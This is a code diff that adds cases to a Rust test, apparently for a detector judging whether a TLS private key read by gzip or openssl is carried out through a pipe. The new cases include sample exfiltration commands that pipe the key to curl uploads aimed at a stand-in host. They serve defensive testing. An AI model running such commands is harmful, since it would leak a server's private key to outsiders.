@@ -253,6 +253,24 @@ fn copies_and_pieces() {
             "pipe",
             false,
         ),
+        // A server's own, packed.
+        (
+            "tls-private-key",
+            "/srv/tls/server.key",
+            "/usr/bin/gzip",
+            "curl -T - http://x/",
+            "pipe",
+            true,
+        ),
+        // What openssl makes with it may be a signature.
+        (
+            "tls-private-key",
+            "/srv/tls/server.key",
+            "/usr/bin/openssl",
+            "curl -d @- http://x/",
+            "pipe",
+            false,
+        ),
     ] {
         let name = if how == "file" { "/root/o" } else { "pipe:[1]" };
         let facts = Facts {
@@ -267,6 +285,12 @@ fn copies_and_pieces() {
             ..Facts::default()
         };
         assert_eq!(is_carried(&facts), carried, "{kind} {read} {argv}");
+        let much = Facts {
+            bytes: 2_000,
+            ..facts
+        };
+        let encrypted = carried || read == "/srv/tls/server.key";
+        assert_eq!(is_carried(&much), encrypted, "{kind} {read} {argv}");
     }
 }
 
